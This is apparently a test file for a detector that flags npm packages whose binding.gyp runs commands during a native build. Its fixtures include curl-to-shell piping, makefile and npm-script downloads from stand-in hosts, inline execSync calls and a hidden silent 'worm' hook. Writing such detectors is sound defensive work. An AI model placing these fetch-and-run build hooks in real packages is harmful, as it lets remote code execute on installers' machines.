import { examine } from '../../../test/examine.ts';
import { gypRunsCommand } from './gyp-runs-command.ts';

const gyp = (command: string, sources = ''): string => `{ 'targets': [{ 'target_name': 'x', 'sources': [${sources}'<!(${command})'] }] }`;
const manifest = { name: 'specimen', version: '1.0.0' };

examine(gypRunsCommand, {
  speaks: [
    {
      when: 'native code is built with what a makefile of the package fetches',
      files: {
        'package.json': manifest,
        'binding.gyp': gyp('make -s -f build.mk probe'),
        'build.mk': 'HOST := specimen.invalid\nprobe: out/kernel\nout/%:\n\t@curl -fsSL https://$(HOST)/$* -o $@\n',
        'src/a.cc': '',
      },
      weight: 'strong',
    },
    {
      when: 'it runs a script of the package that fetches something',
      files: {
        'package.json': { ...manifest, scripts: { probe: 'wget https://specimen.invalid/a' } },
        'binding.gyp': gyp('npm run probe'),
      },
      weight: 'proof',
    },
    {
      when: 'a script is run and there is nothing to build',
      files: { 'package.json': manifest, 'binding.gyp': gyp('node index.js') },
      weight: 'strong',
    },
    {
      when: 'an honest looking script is run and there is nothing to build',
      files: { 'package.json': manifest, 'binding.gyp': gyp('node ./scripts/setup.js'), 'scripts/setup.js': '' },
      weight: 'strong',
    },
    {
      when: 'it is an action, run while nothing native is built',
      files: { 'package.json': manifest, 'binding.gyp': `{'targets':[{'target_name':'x','actions':[{'action':['node','run.js']}]}]}` },
    },
    { when: 'a shell is run', files: { 'package.json': manifest, 'binding.gyp': gyp('curl https://a.invalid | sh') }, weight: 'proof' },
    {
      when: 'a shell is run beside real sources',
      files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': gyp('curl https://a.invalid | sh', `'a.cc', `) },
      weight: 'strong',
    },
    {
      when: 'a comment and joined strings hide it',
      files: { 'binding.gyp': `# harmless\n{ "x": "<!(no" "de run.js)" }` },
      says: ['node run.js'],
    },
    {
      when: 'inline code does more than ask',
      files: { 'binding.gyp': `{'x':'<!(node -e "require(\\'child_process\\').execSync(\\'id\\')")'}` },
      weight: 'strong',
    },
    {
      when: 'the worm of 157 bytes does it',
      files: {
        'index.js': '',
        'binding.gyp': `{'targets':[{'target_name':'x','sources':['<!(node index.js > /dev/null 2>&1 && echo stub.c)']}]}`,
      },
      weight: 'strong',
    },
    {
      when: 'an included file does it',
      files: { 'binding.gyp': `{'includes':['a.gypi']}`, 'a.gypi': `{'x':'<!@(sh x.sh)'}` },
      says: ['a.gypi'],
    },
  ],
  silent: [
    {
      when: 'a hint with an address is said to whoever builds',
      files: {
        'binding.gyp': `{ "targets": [{ "target_name": "a", "sources": ["a.cc"], "variables": { "x": "<!(echo 'Read https://nodejs.invalid/issues/4932 first')" } }] }`,
        'a.cc': 'int a;',
      },
    },
    {
      when: 'it probes for a library with a script of its own',
      files: { 'a.cc': '', 'binding.gyp': gyp('node ./util/has_lib.js gif', `'a.cc', `) },
    },
    { when: 'no binding.gyp starts the others', files: { 'deps/x.gyp': gyp('node evil.js') } },
    {
      when: 'it asks for header paths',
      files: {
        'package.json': manifest,
        'a.cc': 'int main;',
        'binding.gyp': gyp(`node -p \\"require('node-addon-api').include\\"`, `'a.cc', `),
      },
    },
    {
      when: 'it asks pkg-config',
      files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': gyp('pkg-config --libs libsecret-1', `'a.cc', `) },
    },
    {
      when: 'it runs no command',
      files: { 'package.json': manifest, 'a.cc': 'int main;', 'binding.gyp': `{ 'targets': [{ 'sources': ['a.cc'] }] }` },
    },
    {
      when: 'the command stands in a comment',
      files: { 'package.json': manifest, 'binding.gyp': `{\n# '<!(curl https://a.invalid | sh)'\n}` },
    },
    {
      when: 'the manifest switches gyp off',
      files: { 'package.json': { ...manifest, gypfile: false }, 'binding.gyp': gyp('node index.js') },
    },
  ],
});
